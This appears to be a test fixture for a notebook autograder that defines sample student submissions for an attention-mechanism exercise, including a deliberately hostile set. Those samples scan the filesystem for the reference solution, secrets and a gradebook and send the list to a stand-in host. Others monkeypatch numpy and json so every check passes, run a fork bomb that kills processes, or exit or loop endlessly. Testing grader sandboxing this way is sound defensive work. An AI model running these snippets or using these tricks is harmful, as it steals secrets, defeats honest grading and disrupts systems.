"""The sample class: who submits what, in which language, and the points that it must get.

Each student works in the notebook of a language. `fill` puts functions of a solution into the notebook's own cells; `extra` are cells that
the student has added, {position: source}, the position counted in code cells, −1 at the end.
"""

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Student:
    """One submission of the class; `work` names the solution: "reference", "stub", or a file of the catalogue such as "wrong/no-scale"."""

    name: str
    language: str
    score: float
    work: str = "reference"
    extra: tuple = ()
    misconceptions: tuple = ()
    file: str = "single-head.ipynb"
    raw: bytes | None = field(default=None, repr=False)
    note: bool = False


RIGHT = (
    Student("anna", "en", 10.0),
    Student("björn", "sv", 10.0, work="right/einsum"),
    Student("李雷", "zh-CN", 10.0, work="right/loops"),
    Student("Мария Иванова", "ru", 10.0, work="right/log_domain", file="Мария - single-head (копия).ipynb"),
)

WRONG = (
    Student("edward", "en", 0.0, work="stub"),
    Student("elin", "sv", 8.25, work="wrong/no-scale", misconceptions=("no-scale",)),
    Student("wang.fang", "zh-CN", 8.5, work="wrong/mask-inverted", misconceptions=("mask-inverted",)),
    Student("igor", "ru", 9.5, work="wrong/causal-top-left", misconceptions=("causal-top-left",)),
    Student("olga", "ru", 9.0, work="wrong/softmax-global-maximum", misconceptions=("softmax-global-maximum",)),
)

BROKEN = (
    Student("scratch", "en", 10.0, extra=(
        (1, "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2, 3]);\nplt.show()"),
        (2, "1 / 0"),
        (3, "this is no Python at all ("),
        (-1, "!ls\n%timeit -n1 -r1 sum(range(10))\nprint('x' * 10_000_000)\nimport warnings; warnings.warn('careful')"),
        (-1, "raise SystemExit"),
    )),
    Student("halvfärdig", "sv", 5.0, extra=((-1, "del attention"),)),
    Student("unreadable", "en", 0.0, raw=b'{"cells": [', note=True),
)

HOSTILE = (
    Student("exits", "en", 10.0, extra=((-1, "import os\nos._exit(0)"),)),
    Student("loops", "en", 9.0, extra=(
        (-1, "def padding_mask(lengths, n_keys):\n    while True:\n        try:\n            pass\n        except BaseException:\n            pass"),
    )),
    Student("reads", "ru", 5.0, extra=(
        (-1, """import glob, os, socket, subprocess
found = []
def attention(q, k, v, mask=None):
    reference = [f for f in found if f.endswith("single_head.py")]
    names = {}
    exec(open(reference[0]).read(), names)  # fails where there is nothing to read
    return names["attention"](q, k, v, mask)
for root in ("/", "/root", "/home", "/tmp", "/proc", "/srv", os.getcwd()):
    for folder, folders, files in os.walk(root):
        found += [os.path.join(folder, f) for f in files if "hidden" in f or f == "single_head.py" or f.endswith((".secret", "gradebook.db"))]
        if len(folder.split(os.sep)) > 6:
            folders.clear()
def phone_home():
    with socket.create_connection(("198.51.100.1", 80), timeout=2) as s:
        s.sendall(repr(found).encode())
try:
    phone_home()
except OSError:
    found.append("no network")"""),
    )),
    Student("patches", "zh-CN", 5.0, extra=(
        (-1, """import numpy as np, json
np.allclose = np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
json.dumps = lambda *a, **k: '{"value": true}'
json.loads = lambda *a, **k: {"value": True}
class Equal(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __sub__(self, other): return np.zeros(self.shape)
    __rsub__ = __sub__
def attention(q, k, v, mask=None):
    return np.zeros((*q.shape[:-1], v.shape[-1])).view(Equal), np.zeros((*q.shape[:-1], k.shape[-2])).view(Equal)"""),
    )),
    Student("forks", "sv", 9.0, extra=(
        (-1, """import os, signal
def causal_mask(n_queries, n_keys):
    while True:
        try:
            os.fork()
        except OSError:
            pass
for pid in range(2, 50):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass"""),
    )),
)

CLASS = RIGHT + WRONG + BROKEN + HOSTILE
